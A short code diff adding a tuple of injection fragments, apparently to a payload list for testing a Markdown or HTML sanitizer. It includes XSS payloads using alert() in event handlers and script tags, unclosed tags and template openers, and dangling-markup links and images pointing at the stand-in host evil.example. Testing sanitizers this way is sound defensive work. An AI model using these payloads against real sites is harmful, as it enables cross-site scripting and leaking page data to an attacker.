@@ -136,3 +136,27 @@ EXTENSIONS = (
     "\\`§\\` \\{: onclick=alert(§) \\}",
     "**§*__<b onclick=alert(§)>_*",
 )
+
+# What leaves something open.
+OPEN = (
+    "\n```{.x onfocus=alert(§) autofocus=1}\n§",
+    "\n~~~~\n§ <script>alert(§)</script>",
+    "<!-- §",
+    "<![CDATA[ §",
+    "<script>/* §",
+    "<style>/* §",
+    "<textarea>§",
+    "<title>§",
+    "<plaintext>§",
+    "<svg><desc>§",
+    "<a href='https://evil.example/§?",
+    "<img src='https://evil.example/§?",
+    "{{ §",
+    "{% §",
+    "{# §",
+    "`§",
+    "[§](",
+    "\n[§]: <https://evil.example/§",
+    "\n<div markdown=1>\n§",
+    "\n$$\n§",
+)
